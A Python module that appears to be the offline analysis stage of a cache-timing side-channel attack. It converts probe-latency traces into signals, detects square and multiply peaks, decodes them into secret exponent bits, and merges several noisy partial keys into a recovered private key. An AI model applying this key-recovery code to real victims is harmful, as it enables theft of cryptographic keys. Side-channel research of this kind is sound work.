"""Offline phase: resampling, peak detection, partial keys and multi-trace merge."""
from __future__ import annotations

import json
from collections import Counter
from dataclasses import dataclass, field
from typing import NamedTuple, Sequence

import numpy as np
from scipy.ndimage import uniform_filter1d
from scipy.signal import find_peaks

from ._engine import DELETE, edit_script
from .attacker import RawTrace

STEP = 1000
WINDOW = 10_000
OUTLIER_FACTOR = 10.0
PEAK_HISTORY = 10
PEAK_RATIO = 0.9


class TraceTooShort(ValueError):
    pass


@dataclass
class ResampledTrace:
    values: np.ndarray
    start: float
    step: int = STEP
    n_interpolated: int = 0

    @property
    def times(self) -> np.ndarray:
        return self.start + self.step * np.arange(len(self.values))


def resample(raw: RawTrace, step: int = STEP, window: int = WINDOW,
             outlier_factor: float = OUTLIER_FACTOR, reference_latency: float | None = None,
             resolution: float | None = None) -> ResampledTrace:
    """Fixed-rate energy signal from variable-rate miss timestamps.

    At every ``step`` cycles the squared probe latencies inside the
    surrounding ``window`` are summed and divided by the window length.
    Probes slower than ``outlier_factor`` times the reference latency (the
    attacker's all-hit probe time if known, else the median recorded
    latency) are dropped; sampling points whose window overlaps such a probe
    saw no usable data and are linearly interpolated.
    """
    res = resolution or raw.meta.get("resolution", 1.0)
    span = (raw.end - raw.start) * res
    if span < window:
        raise TraceTooShort(f"trace spans {span:.0f} cycles, less than one {window}-cycle window")
    n = int(span // step)
    start = raw.start * res
    ts = raw.miss_timestamps * res
    lat = raw.probe_latencies * res
    if reference_latency is None:
        reference_latency = raw.meta.get("baseline_cycles")
    if reference_latency is None:
        reference_latency = float(np.median(lat)) if len(lat) else 0.0
    bad = lat > outlier_factor * reference_latency
    good_ts, good_lat = ts[~bad], lat[~bad]
    cum = np.concatenate(([0.0], np.cumsum(good_lat ** 2)))
    points = start + step * np.arange(n)
    half = window / 2
    lo = np.searchsorted(good_ts, points - half, side="left")
    hi = np.searchsorted(good_ts, points + half, side="left")
    values = (cum[hi] - cum[lo]) / window
    blind = np.zeros(n, dtype=bool)
    for t_end, dur in zip(ts[bad].tolist(), lat[bad].tolist()):
        a = int(np.ceil((t_end - dur - half - start) / step))
        b = int(np.floor((t_end + half - start) / step))
        blind[max(a, 0):max(min(b + 1, n), 0)] = True
    n_interp = int(blind.sum())
    if n_interp:
        ok = ~blind
        if ok.any():
            values[blind] = np.interp(points[blind], points[ok], values[ok])
        else:
            values[:] = 0.0
    return ResampledTrace(values, start, step, n_interp)


def _box_smooth(values: np.ndarray, width: int) -> np.ndarray:
    # edges are extended, not zero-padded: padding would turn a flat signal into a hump
    if width <= 1:
        return values
    return uniform_filter1d(values, width, mode="nearest")


def detect_peaks(rt: ResampledTrace, mult_time: float, smooth: bool = True) -> np.ndarray:
    """Times (cycles) of peaks that stand for one multiplication each.

    With ``smooth`` the signal is first averaged over one multiplication
    time, a matched filter for the flat-topped activity of one
    multiplication that centres each peak on its operation; a peak's height
    is then the largest raw value within half a multiplication of it.
    Local maxima closer than one multiplication time are merged keeping the
    higher one.  A peak below 90 % of the median height of the 10 previously
    kept peaks is dropped; until 10 peaks exist the median of the first 10
    candidates is used.
    """
    if mult_time <= 0:
        raise ValueError("mult_time must be > 0")
    width = max(1, int(round(mult_time / rt.step)))
    raw = np.asarray(rt.values, dtype=float)
    sig = _box_smooth(raw, width) if smooth else raw
    idx, _ = find_peaks(sig, distance=width)
    idx = idx[sig[idx] > 0]
    if len(idx) == 0:
        return np.empty(0)
    if smooth:
        half = width // 2
        heights = np.array([raw[max(i - half, 0):i + half + 1].max() for i in idx.tolist()])
    else:
        heights = sig[idx]
    seed = float(np.median(heights[:PEAK_HISTORY]))
    kept: list[int] = []
    kept_h: list[float] = []
    for i, h in zip(idx.tolist(), heights.tolist()):
        ref = float(np.median(kept_h[-PEAK_HISTORY:])) if len(kept_h) >= PEAK_HISTORY else seed
        if h >= PEAK_RATIO * ref:
            kept.append(i)
            kept_h.append(h)
    return rt.start + rt.step * np.asarray(kept, dtype=float)


def estimate_mult_time(peaks: Sequence[float], initial: float | None = None) -> float:
    """Operation time from inter-peak gaps, which are whole multiples of it.

    The first guess is half the 25th-percentile gap (two consecutive 1-bits
    are two operations apart); it is refined as total gap time over the
    total number of operations the gaps round to.
    """
    gaps = np.diff(np.asarray(peaks, dtype=float))
    gaps = gaps[gaps > 0]
    if len(gaps) == 0:
        raise ValueError("need at least two distinct peaks")
    t0 = initial if initial else float(np.percentile(gaps, 25)) / 2
    units = np.maximum(np.round(gaps / t0), 1)
    return float(gaps.sum() / units.sum())


@dataclass
class PartialKey:
    bits: list[int]
    source: str = ""
    # operation time (cycles) used for decoding, when known
    mult_time: float | None = None

    def __post_init__(self):
        if not self.bits or self.bits[0] != 1:
            raise ValueError("partial key must be nonempty and start with 1")

    def __len__(self):
        return len(self.bits)

    def __str__(self):
        return "".join(map(str, self.bits))


def extract_partial_key(peaks: Sequence[float], mult_time: float, framed: bool = False,
                        source: str = "") -> PartialKey:
    """Decode peak times into exponent bits.

    A 1-bit costs two operations (square, multiply) and a 0-bit one, so a
    gap of ``g`` between consecutive 1-peaks carries ``round(g/T) - 2``
    zeros.  With ``framed`` the first and last peaks are the victim's
    set-up and clean-up bursts, each placed like a 1-bit right before and
    after the exponent; they are decoded as usual and then dropped.
    Leading zeros can only come from noise and are stripped.
    """
    p = np.asarray(peaks, dtype=float)
    need = 3 if framed else 2
    if len(p) < need:
        raise ValueError(f"need at least {need} peaks, got {len(p)}")
    if mult_time <= 0:
        raise ValueError("mult_time must be > 0")
    bits = [1]
    for u in np.round(np.diff(p) / mult_time).astype(int).tolist():
        bits.extend([0] * max(u - 2, 0))
        bits.append(1)
    if framed:
        bits = bits[1:-1]
    while bits and bits[0] == 0:
        bits.pop(0)
    if not bits:
        raise ValueError("no 1-bit decoded")
    return PartialKey(bits, source, float(mult_time))


# ---------------------------------------------------------------- edit distance

_KIND_NAMES = ("match", "substitute", "delete", "insert")


class EditAction(NamedTuple):
    kind: str  # "insert" | "delete" | "substitute" | "match"
    position: int  # index into the source sequence
    value: int | None = None


def edit_distance(a: Sequence[int], b: Sequence[int]) -> int:
    """Levenshtein distance of two bit sequences (bit-parallel, Myers/Hyyrö)."""
    m = len(a)
    if m == 0:
        return len(b)
    if len(b) == 0:
        return m
    full = (1 << m) - 1
    high = 1 << (m - 1)
    peq = {0: 0, 1: 0}
    for i, c in enumerate(a):
        peq[c] = peq.get(c, 0) | (1 << i)
    pv, mv, score = full, 0, m
    for c in b:
        eq = peq.get(c, 0)
        xv = eq | mv
        xh = (((eq & pv) + pv) ^ pv) | eq
        ph = mv | ~(xh | pv)
        mh = pv & xh
        if ph & high:
            score += 1
        elif mh & high:
            score -= 1
        ph = ((ph << 1) | 1) & full
        mh = (mh << 1) & full
        pv = (mh | ~(xv | ph)) & full
        mv = ph & xv
    return score


def edit_distance_actions(a: Sequence[int], b: Sequence[int]) -> tuple[int, list[EditAction]]:
    """Minimal script turning ``a`` into ``b``, in left-to-right order.

    Positions refer to the original ``a``.  Among equally short scripts the
    one taking deletions, then insertions, as early as possible is returned.
    """
    dist, kinds, pos, vals = edit_script(np.asarray(a, dtype=np.int8), np.asarray(b, dtype=np.int8))
    acts = [EditAction(_KIND_NAMES[k], p, None if k == DELETE else v)
            for k, p, v in zip(kinds.tolist(), pos.tolist(), vals.tolist())]
    return int(dist), acts


def apply_actions(a: Sequence[int], actions: Sequence[EditAction]) -> list[int]:
    """Replay an action script produced for ``a``."""
    out: list[int] = []
    i = 0
    for act in actions:
        while i < act.position:
            out.append(a[i])
            i += 1
        if act.kind == "insert":
            out.append(act.value)
        elif act.kind == "delete":
            i += 1
        elif act.kind in ("substitute", "match"):
            out.append(act.value)
            i += 1
        else:
            raise ValueError(f"unknown action {act.kind!r}")
    out.extend(a[i:])
    return out


# ---------------------------------------------------------------- merge

@dataclass
class RecoveredKey:
    bits: list[int]
    n_ties: int = 0
    corrections: list[int] = field(default_factory=list)
    n_partials: int = 0
    lookahead: int = 20
    # (merged position, partial index, action kind) for every applied edit
    applied: list[tuple[int, int, str]] = field(default_factory=list)

    def __str__(self):
        return "".join(map(str, self.bits))

    def hex(self) -> str:
        return format(int(str(self), 2), "x") if self.bits else ""

    def report(self, partials: Sequence[PartialKey] = (), reference: Sequence[int] | None = None,
               runtime: float | None = None) -> dict:
        out = {
            "key_hex": self.hex(),
            "bit_length": len(self.bits),
            "n_partials": self.n_partials,
            "lookahead": self.lookahead,
            "ties": self.n_ties,
            "corrections": list(self.corrections),
        }
        if reference is not None:
            ref = list(reference)
            out["bit_errors"] = edit_distance(self.bits, ref)
            out["partial_edit_distances"] = [edit_distance(p.bits, ref) for p in partials]
        if runtime is not None:
            out["runtime_s"] = runtime
        return out

    def write(self, path, **kw) -> None:
        with open(path, "w") as f:
            json.dump(self.report(**kw), f, indent=2, sort_keys=True)
            f.write("\n")


def _majority_bit(keys: list[list[int]], i: int) -> tuple[int | None, bool]:
    """Majority over keys that still have position ``i``; None once most are used up."""
    live = [k[i] for k in keys if i < len(k)]
    if 2 * len(live) <= len(keys):
        return None, False
    ones = sum(live)
    zeros = len(live) - ones
    return (1 if ones >= zeros else 0), ones == zeros


def merge_keys(partials: Sequence[PartialKey | Sequence[int]], lookahead: int = 20) -> RecoveredKey:
    """Bitwise majority merge with edit-distance correction of outvoted keys.

    At each position the majority bit is taken (ties go to 1).  Every key
    that disagrees is aligned, over the next ``lookahead`` bits, against
    each agreeing key; the resulting action scripts are voted on index by
    index and applied at the current position until the key agrees.  The
    loop ends once a majority of keys is exhausted.
    """
    if not partials:
        raise ValueError("need at least one partial key")
    if lookahead < 1:
        raise ValueError("lookahead must be >= 1")
    keys = [list(p.bits) if isinstance(p, PartialKey) else list(p) for p in partials]
    corrections = [0] * len(keys)
    applied: list[tuple[int, int, str]] = []
    out: list[int] = []
    ties = 0
    i = 0
    while True:
        bit, tie = _majority_bit(keys, i)
        if bit is None:
            break
        ties += tie
        out.append(bit)
        correct = [k for k in keys if i < len(k) and k[i] == bit]
        for w, kw in enumerate(keys):
            if i >= len(kw) or kw[i] == bit:
                continue
            window = kw[i:i + lookahead]
            scripts = [edit_distance_actions(window, kc[i:i + lookahead])[1] for kc in correct]
            ai = 0
            while i < len(kw) and kw[i] != bit:
                votes = Counter((s[ai].kind, s[ai].value) for s in scripts if ai < len(s))
                if votes:
                    # most common; ties broken by first appearance in script order
                    kind, value = votes.most_common(1)[0][0]
                else:
                    kind, value = "substitute", bit
                if kind == "delete":
                    del kw[i]
                elif kind == "insert":
                    kw.insert(i, value)
                elif kind == "substitute":
                    kw[i] = value
                if kind != "match":
                    corrections[w] += 1
                    applied.append((i, w, kind))
                ai += 1
                if ai > 4 * lookahead + 4:
                    kw[i] = bit
                    corrections[w] += 1
                    applied.append((i, w, "substitute"))
        i += 1
    return RecoveredKey(out, ties, corrections, len(keys), lookahead, applied)


def partial_key_from_trace(raw: RawTrace, mult_time: float | None = None, key_bits: int | None = None,
                           smooth: bool = True, source: str = "") -> PartialKey:
    """Resample, detect peaks and decode one monitored signature.

    Without ``mult_time`` a provisional value (from the trace's recorded
    operation time, else from the span and ``key_bits``) seeds peak
    detection and is then refined from the peak gaps.
    """
    rt = resample(raw)
    guess = mult_time or raw.meta.get("op_cycles")
    if guess is None:
        if key_bits is None:
            raise ValueError("need mult_time, trace metadata or key_bits")
        guess = (raw.end - raw.start) * raw.meta.get("resolution", 1.0) / (1.5 * key_bits + 6)
    peaks = detect_peaks(rt, guess, smooth)
    t = mult_time
    if t is None:
        t = estimate_mult_time(peaks, initial=guess)
        peaks = detect_peaks(rt, t, smooth)
    return extract_partial_key(peaks, t, framed=True, source=source or raw.meta.get("trace_id", ""))
